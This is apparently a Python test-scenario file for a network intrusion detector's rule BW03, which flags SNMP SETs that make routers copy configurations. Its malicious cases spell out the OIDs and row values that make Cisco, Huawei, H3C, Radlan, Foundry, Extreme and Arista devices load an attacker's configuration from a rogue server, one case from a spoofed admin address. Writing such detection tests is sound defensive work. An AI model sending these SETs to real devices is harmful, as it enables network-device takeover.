"""BW03: an SNMP SET moves a configuration."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import HQ
from bootwarden.traffic import snmp
from bootwarden.traffic.wire import Wire

DEVICE, ATTACKER, ADMIN = "10.0.1.1", "10.0.6.6", "10.0.9.10"
ROGUE, SERVER = "10.0.6.66", "10.0.0.5"
NETWORK, STARTUP, RUNNING = 1, 3, 4
ACTIVE, CREATE_AND_GO, CREATE_AND_WAIT, DESTROY = 1, 4, 5, 6


def copied(device: str, server: str | None, file: str | None) -> Notice:
    """The notice of one configuration copy."""
    return Notice("SNMP_Config_Copy", device, server, file)


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 1, "10.0.6.6", "10.0.1.1")],
    site=HQ,
    with_site=Expect((copied(DEVICE, ROGUE, "evil-confg"),)),
)
def bw03_merge_in_one_set(wire: Wire) -> None:
    """One SET makes a router merge an attacker's file into its running configuration."""
    columns = {2: 1, 3: NETWORK, 4: RUNNING, 5: IPv4Address(ROGUE), 6: "evil-confg", 14: CREATE_AND_GO}
    snmp.Manager(wire, ATTACKER, DEVICE).set(*snmp.row(snmp.CONFIG_COPY, 111, columns))


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 1, "10.0.9.10", "10.0.1.1")],
    raises_with_site=[("BW03", 1542134031, "10.0.9.10", "10.0.1.1")],
    site=HQ,
    with_site=Expect((copied(DEVICE, ROGUE, "nvram-image"),)),
)
def bw03_row_over_many_sets(wire: Wire) -> None:
    """The row is built column by column in odd order, under a long index, from an admin's spoofed address."""
    manager = snmp.Manager(wire, ADMIN, DEVICE)
    for columns in (
        {14: CREATE_AND_WAIT},
        {6: "nvram-image"},
        {4: STARTUP},
        {16: IPv4Address(ROGUE).packed},
        {3: NETWORK},
        {15: 1},
        {2: 1},
        {14: ACTIVE},
    ):
        # A spoofer sees no answer.
        manager.set(*snmp.row(snmp.CONFIG_COPY, 4294967295, columns), answered=False)
        wire.wait(1)
    manager.set(*snmp.row(snmp.CONFIG_COPY, 4294967295, {14: DESTROY}), answered=False)


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 2, "10.0.6.6", "10.0.1.2"), ("BW03", 3, "10.0.6.6", "10.0.1.1")],
    site=HQ,
    with_site=Expect((copied(DEVICE, ROGUE, "evil-confg"), copied("10.0.1.2", ROGUE, "x.cfg"))),
)
def bw03_old_cisco_objects(wire: Wire) -> None:
    """The old objects, whose instance is the server: a router loads a host configuration, another writes its own."""
    snmp.Manager(wire, ATTACKER, DEVICE, version=snmp.V1).set((f"1.3.6.1.4.1.9.2.1.53.{ROGUE}", "evil-confg"))
    snmp.Manager(wire, ATTACKER, "10.0.1.2", version=snmp.V1).set((f"1.3.6.1.4.1.9.2.1.55.{ROGUE}", "x.cfg"))


VENDORS: dict[str, tuple[str, list[snmp.Binding]]] = {
    "10.0.1.11": (
        "vrpcfg.zip",
        snmp.row(
            "1.3.6.1.4.1.2011.6.10.1.2.4.1",
            3,
            {2: 5, 3: 2, 4: "vrpcfg.zip", 5: IPv4Address(ROGUE), 9: CREATE_AND_GO},
        ),
    ),
    "10.0.1.12": (
        "comware.cfg",
        snmp.row(
            "1.3.6.1.4.1.25506.2.4.1.2.4.1",
            7,
            {2: 4, 3: 2, 4: "comware.cfg", 5: IPv4Address(ROGUE), 9: CREATE_AND_GO},
        ),
    ),
    "10.0.1.13": (
        "smb.txt",
        snmp.row(
            "1.3.6.1.4.1.89.87.2.1",
            1,
            {3: 3, 4: IPv4Address(ROGUE), 6: "smb.txt", 7: 1, 8: 1, 12: 3, 17: CREATE_AND_GO},
        ),
    ),
    "10.0.1.14": (
        "icx.cfg",
        [
            ("1.3.6.1.4.1.1991.1.1.2.1.5.0", IPv4Address(ROGUE)),
            ("1.3.6.1.4.1.1991.1.1.2.1.8.0", "icx.cfg"),
            ("1.3.6.1.4.1.1991.1.1.2.1.9.0", 21),
        ],
    ),
    "10.0.1.15": (
        "exos.cfg",
        snmp.row("1.3.6.1.4.1.1916.1.10.1.2.1", 1, {2: IPv4Address(ROGUE), 3: "exos.cfg", 4: 3, 6: 1}),
    ),
    "10.0.1.16": (
        "eos.cfg",
        snmp.row(
            "1.3.6.1.4.1.30065.3.7.1.1",
            "1.97.1",
            {3: f"tftp://{ROGUE}/eos.cfg", 4: "running-config:", 11: CREATE_AND_GO},
        ),
    ),
}


@scenario(
    "BW03",
    "malicious",
    raises=[
        ("BW03", 5, "10.0.6.6", "10.0.1.14"),
        ("BW03", 1542006081, "10.0.6.6", "10.0.1.15"),
        ("BW03", 1542006085, "10.0.6.6", "10.0.1.16"),
        ("BW03", 7, "10.0.6.6", "10.0.1.11"),
        ("BW03", 1542006034, "10.0.6.6", "10.0.1.12"),
        ("BW03", 9, "10.0.6.6", "10.0.1.13"),
    ],
    site=HQ,
    with_site=Expect(tuple(copied(device, ROGUE, file) for device, (file, _) in VENDORS.items())),
)
def bw03_other_vendors(wire: Wire) -> None:
    """Huawei, H3C, Radlan, Foundry, Extreme and Arista devices are each told to load a configuration."""
    for device, (_, bindings) in VENDORS.items():
        snmp.Manager(wire, ATTACKER, device).set(*bindings)


@scenario("BW03", "benign", site=HQ, with_site=Expect())
def bw03_polling_copy_table(wire: Wire) -> None:
    """A management station reads the copy table, whose rows name a server, and checks what a copy came to."""
    manager = snmp.Manager(wire, "10.0.2.30", DEVICE, community="public")
    columns = {2: 1, 3: RUNNING, 4: NETWORK, 5: IPv4Address("10.0.2.30"), 6: "backup", 10: 3, 14: ACTIVE}
    rows = snmp.row(snmp.CONFIG_COPY, 336, columns)
    manager.get(*rows)
    manager.get_next(f"{snmp.CONFIG_COPY}.5", rows[3])
    manager.get_bulk(snmp.CONFIG_COPY, *rows)


@scenario(
    "BW03",
    "benign",
    raises=[("BW03", 0, "10.0.9.10", "10.0.1.1")],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(
        evidence=(
            {
                "device": DEVICE,
                "server": SERVER,
                "actor": ADMIN,
                "verdict": "expected",
                "detail": "device to network by tftp",
            },
        )
    ),
)
def bw03_nightly_backup(wire: Wire) -> None:
    """The management host makes a router copy its configuration to the declared server."""
    columns = {2: 1, 3: RUNNING, 4: NETWORK, 5: IPv4Address(SERVER), 6: "edge1-backup", 14: CREATE_AND_GO}
    manager = snmp.Manager(wire, ADMIN, DEVICE, community="hq-rw")
    manager.set(*snmp.row(snmp.CONFIG_COPY, 20, columns))
    manager.get((f"{snmp.CONFIG_COPY}.10.20", 3))


@scenario("BW03", "benign", site=HQ, with_site=Expect(evidence=()))
def bw03_other_objects_set(wire: Wire) -> None:
    """SETs of a contact, of an interface and of a value that spells out the copy table's OID."""
    prefix = bytes.fromhex("2b060104010909600101010105")
    manager = snmp.Manager(wire, "10.0.2.30", DEVICE)
    manager.set(("1.3.6.1.2.1.1.4.0", "noc@corp.example"))
    manager.set(("1.3.6.1.2.1.2.2.1.7.3", 2))
    manager.set(("1.3.6.1.2.1.1.6.0", b"see " + prefix))
